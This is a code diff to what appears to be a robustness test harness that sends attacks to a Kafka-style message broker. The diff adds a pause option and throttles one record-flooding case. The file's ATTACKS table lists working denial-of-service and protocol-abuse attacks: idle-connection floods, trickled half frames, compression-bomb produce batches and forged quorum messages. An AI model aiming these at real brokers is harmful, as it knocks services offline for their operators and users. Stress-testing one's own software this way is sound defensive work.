@@ -146,14 +146,17 @@ def idle_connections(target: Target, *, connections: int = 5_000) -> None:
         target.wait()
 
 
-def produce_small_records(target: Target, *, records: int, compression: Compression, connections: int = 3) -> None:
+def produce_small_records(
+    target: Target, *, records: int, compression: Compression, connections: int = 3, pause_s: float = 0.0
+) -> None:
     """Produce batches of very many empty records, one request after the other on each connection."""
     batch = encode_batch([Record(number, 0, None, b"", ()) for number in range(records)], compression=compression)
     body = b"".join(
         encode_produce_request(PRODUCE_VERSION, acks=1, timeout_ms=30_000, topics=[(TOPIC, None, [(0, bytes(batch))])])
     )
     header = struct.pack(">hhih", ApiKey.PRODUCE, PRODUCE_VERSION, 1, -1) + b"\0"
-    _ask_again_and_again(target, [struct.pack(">i", len(header) + len(body)) + header + body], connections)
+    frame = struct.pack(">i", len(header) + len(body)) + header + body
+    _ask_again_and_again(target, [frame], connections, pause_s)
 
 
 def look_up_by_time(target: Target, *, connections: int = 3) -> None:
@@ -171,9 +174,9 @@ def forge_quorum_messages(target: Target, *, connections: int = 10) -> None:
     _ask_again_and_again(target, [struct.pack(">i", len(frame)) + frame for frame in forged], connections)
 
 
-def _ask_again_and_again(target: Target, frames: Sequence[bytes], connections: int) -> None:
+def _ask_again_and_again(target: Target, frames: Sequence[bytes], connections: int, pause_s: float = 0.0) -> None:
     """On each of so many connections one frame after the other, each when the one before is answered, or ended the
-    connection."""
+    connection, and so much later."""
 
     def ask() -> None:
         number = 0
@@ -186,6 +189,7 @@ def _ask_again_and_again(target: Target, frames: Sequence[bytes], connections: i
                     size = stream.recv(4, socket.MSG_WAITALL)
                     if len(size) < 4 or not stream.recv(struct.unpack(">i", size)[0], socket.MSG_WAITALL):
                         break
+                    time.sleep(pause_s)
 
     threads = [threading.Thread(target=ask, daemon=True) for _ in range(connections)]
     for thread in threads:
@@ -238,7 +242,9 @@ ATTACKS: Mapping[str, Callable[[Target], None]] = {
     "trickled half frames": partial(half_frames, trickle_bytes=64 * 1024),
     "5,000 idle connections": idle_connections,
     "1,000,000 records in 1 KB": partial(produce_small_records, records=1_000_000, compression=Compression.ZSTD),
-    "100,000 records in 1 MB": partial(produce_small_records, records=100_000, compression=Compression.NONE),
+    "100,000 records in 1 MB, 10/s": partial(
+        produce_small_records, records=100_000, compression=Compression.NONE, connections=1, pause_s=0.1
+    ),
     "lookups by time": look_up_by_time,
     "forged quorum messages": forge_quorum_messages,
 }
